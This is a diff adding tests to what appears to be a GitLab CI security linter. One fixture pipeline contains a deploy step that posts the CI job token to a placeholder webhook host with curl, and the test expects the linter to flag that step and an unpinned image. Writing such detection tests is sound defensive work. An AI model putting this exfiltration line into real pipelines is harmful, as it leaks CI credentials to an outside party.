@@ -311,3 +311,30 @@ def test_corpus_pipelines_scan_without_errors(monkeypatch):
 def test_spans_of_included_entries_name_their_file():
     doc = Document("a.yml", "gitlab-ci", gitlab_ci.parse("a.yml", "x:\n  script: [a]\n").documents[0].root, "")
     assert doc.root.key_spans["x"].file == "a.yml"
+
+
+def test_pipelines_in_gitlab_named_folders_are_found_and_others_skipped(tmp_path, monkeypatch):
+    write(tmp_path, "gitlabci/bla.yml", """
+        default:
+          image:
+            name: redis:latest
+            entrypoint: ["/bin/bash"]
+        deploy:
+          script: 'curl -X POST --data "$CI_JOB_JWT_V1" https://webhook.example.com'
+        """)
+    write(tmp_path, "gitlab/values.yml", "replicas: 3\nimage: {tag: latest}\n")
+    result, got = findings([tmp_path], ["GLC"], monkeypatch, tmp_path)
+    assert sorted((r, p, line) for r, p, line, _ in got) == [
+        ("GLC001", "gitlabci/bla.yml", 3), ("GLC018", "gitlabci/bla.yml", 6)]
+    assert "gitlab/values.yml" in {s.path for s in result.skipped}
+
+
+def test_classifying_a_large_yaml_file_is_fast():
+    import time
+
+    from linter.discovery import classify_text
+
+    text = "job:\n" + "".join(f"  key{i}: value {i}\n" for i in range(20000)) + "other: 1\n"
+    start = time.perf_counter()
+    assert classify_text(Path(".gitlab/ci/big.yml"), text)[0] is None
+    assert time.perf_counter() - start < 1.0
